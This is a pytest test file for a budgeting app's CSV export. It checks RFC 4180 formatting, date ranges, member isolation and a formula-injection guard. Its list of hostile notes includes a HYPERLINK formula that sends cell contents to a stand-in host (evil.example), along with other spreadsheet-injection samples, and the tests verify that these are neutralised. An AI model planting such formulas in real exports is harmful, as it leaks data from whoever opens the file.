"""The export page and its CSV (docs/rules.md §9.1): ranges, type filter, preview, RFC 4180 CSV
with a BOM and CRLF, the formula-injection guard, isolation and bad input."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
import time_machine

from funnels.models import Funnel
from transfers import export
from transfers.tests.helpers import at, earn, spend

pytestmark = pytest.mark.django_db

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab",
    'She said "hi", then left,\r\nand came back\nlater',
)


def read_csv(response) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def raw(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.fixture
def march(alice, member):
    spend(alice, "12.50", at(3, 2), note="bread")
    earn(alice, "2000.00", at(3, 3))
    spend(member, "7.00", at(3, 4), funnel=Funnel.objects.get(owner=member, name="Food"))
    earn(member, "99.00", at(3, 5), shared=False)  # bob's private income
    spend(alice, "3.10", at(2, 20), note="last period")
    return alice


def test_csv_has_the_columns_rows_and_crlf_of_rfc_4180(client, march):
    response = client.get("/export/csv/?range=custom&since=2026-03-01&until=2026-03-31")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    body = raw(response)
    assert body.startswith("\ufeffdate,type,funnel,amount,currency,member,note\r\n".encode())
    assert body.count(b"\r\n") == 3
    assert b"\n" not in body.replace(b"\r\n", b"")
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    got = [(r["date"], r["type"], r["funnel"], r["amount"], r["member"], r["note"]) for r in rows]
    assert got == [
        ("2026-03-02T12:00:00", "spending", "Food", "12.50", march.name, "bread"),
        ("2026-03-03T12:00:00", "income", "Salary", "2000.00", march.name, ""),
    ]
    assert {r["currency"] for r in rows} == {march.household.currency}


def test_dates_are_local_to_the_household(client, march):
    household = march.household
    household.timezone = "Europe/Berlin"
    household.save()
    rows = read_csv(client.get("/export/csv/?range=custom&since=2026-03-02&until=2026-03-02"))
    assert [r["date"] for r in rows] == ["2026-03-02T13:00:00"]


def test_hostile_notes_come_back_as_text_and_whole(client, alice):
    for index, note in enumerate(HOSTILE):
        spend(alice, f"{index + 1}.00", at(3, 1, hour=index), note=note)
    rows = read_csv(client.get("/export/csv/?range=all&type=spending"))
    assert [r["note"] for r in rows] == [f"'{note}" for note in HOSTILE[:5]] + [HOSTILE[5]]
    assert all(not r["note"].startswith(("=", "+", "-", "@", "\t")) for r in rows)


def test_a_hostile_funnel_name_and_member_name_are_guarded(client, alice):
    funnel = Funnel.objects.get(owner=alice, name="Food")
    funnel.name = "=1+1"
    funnel.save()
    alice.display_name = "@admin"
    alice.save()
    spend(alice, "1.00", at(3, 1), funnel=funnel)
    (row,) = read_csv(client.get("/export/csv/?range=all"))
    assert (row["funnel"], row["member"]) == ("'=1+1", "'@admin")


def test_member_column_names_each_member_and_a_former_one(client, alice, member):
    shared = Funnel.objects.create(
        household=alice.household, name="House", monthly_limit=Decimal("100.00")
    )
    alice.display_name = "Alice A."
    alice.save()
    member.display_name = ""
    member.save()
    spend(alice, "1.00", at(3, 1), funnel=shared)
    spend(member, "2.00", at(3, 2), funnel=shared)
    gone = spend(member, "3.00", at(3, 3), funnel=shared)
    gone.created_by = None  # what deleting that member's account leaves on a shared funnel
    gone.save()
    earn(member, "4.00", at(3, 4))
    rows = read_csv(client.get("/export/csv/?range=all"))
    assert [(r["amount"], r["funnel"], r["member"]) for r in rows] == [
        ("1.00", "House", "Alice A."),
        ("2.00", "House", member.username),
        ("3.00", "House", "former member"),
        ("4.00", "Salary", member.username),
    ]


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=A1", "'=A1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""), ("café", "café")],
)  # fmt: skip
def test_csv_text_guard(value, expected):
    assert export.csv_text(value) == expected


def test_type_filter(client, march):
    url = "/export/csv/?range=custom&since=2026-03-01&until=2026-03-31&type="
    assert [r["type"] for r in read_csv(client.get(url + "income"))] == ["income"]
    assert [r["amount"] for r in read_csv(client.get(url + "spending"))] == ["12.50"]


def test_a_member_never_exports_what_they_cannot_see(client, march, member, stranger):
    spend(stranger, "555.55", at(3, 6))
    client.force_login(member)
    rows = read_csv(client.get("/export/csv/?range=all"))
    amounts = sorted(r["amount"] for r in rows)
    # bob sees his spending, his private income and alice's shared income; not alice's personal
    # funnel spendings, not the stranger's.
    assert amounts == ["2000.00", "7.00", "99.00"]


@time_machine.travel("2026-03-15 10:00:00+00:00", tick=False)
@pytest.mark.parametrize(
    ("choice", "since", "until"),
    [
        (export.THIS_PERIOD, date(2026, 3, 1), date(2026, 3, 31)),
        (export.LAST_PERIOD, date(2026, 2, 1), date(2026, 2, 28)),
        (export.LAST_3_PERIODS, date(2026, 1, 1), date(2026, 3, 31)),
        (export.THIS_YEAR, date(2026, 1, 1), date(2026, 12, 31)),
        (export.ALL_TIME, None, None),
    ],
)
def test_range_presets_follow_the_household_periods(user, choice, since, until):
    household = user.household
    assert export.export_range(household=household, choice=choice) == export.DateRange(since, until)
    household.period_start_day = 10
    household.save()
    if choice == export.LAST_PERIOD:
        span = export.export_range(household=household, choice=choice)
        assert span == export.DateRange(date(2026, 2, 10), date(2026, 3, 9))


@time_machine.travel("2026-03-15 10:00:00+00:00", tick=False)
def test_preview_shows_first_rows_and_totals_and_updates_in_place(client, march):
    response = client.get("/export/")
    content = response.content.decode()
    assert response.status_code == 200
    assert "<h1>Export</h1>" in content
    assert "12.50" in content
    assert "2,000.00" in content
    assert "last period" not in content
    partial = client.get("/export/?range=last_period", headers={"HX-Request": "true"})
    text = partial.content.decode()
    assert text.lstrip().startswith('<section id="export-preview"')
    assert "<h1>" not in text
    assert "3.10" in text
    assert "12.50" not in text
    assert "/export/csv/?range=last_period" in text


def test_preview_holds_at_most_20_rows_with_totals_of_all(client, alice):
    for day in range(1, 26):
        spend(alice, "1.00", at(1, day))
    content = client.get("/export/?range=all").content.decode()
    assert content.count('<tr class="entry-spending">') == export.PREVIEW_ROWS
    assert "25.00" in content
    assert "The first 20 of 25 rows" in content


@pytest.mark.parametrize(
    "query",
    [
        "range=nope",
        "range=custom",
        "range=custom&since=2026-03-05&until=2026-03-01",
        "range=custom&since=yesterday&until=2026-03-01",
        "range=custom&since=1900-01-01&until=2026-03-01",
        "range=all&type=everything",
    ],
)
def test_bad_choices_answer_400_with_a_message(client, alice, query):
    for url in ("/export/", "/export/csv/", "/export/pdf/"):
        response = client.get(f"{url}?{query}")
        assert response.status_code == 400
        assert 'class="error"' in response.content.decode()


def test_signed_out_visitors_go_to_sign_in(client):
    response = client.get("/export/csv/?range=all")
    assert response.status_code == 302
    assert "/login" in response["Location"]
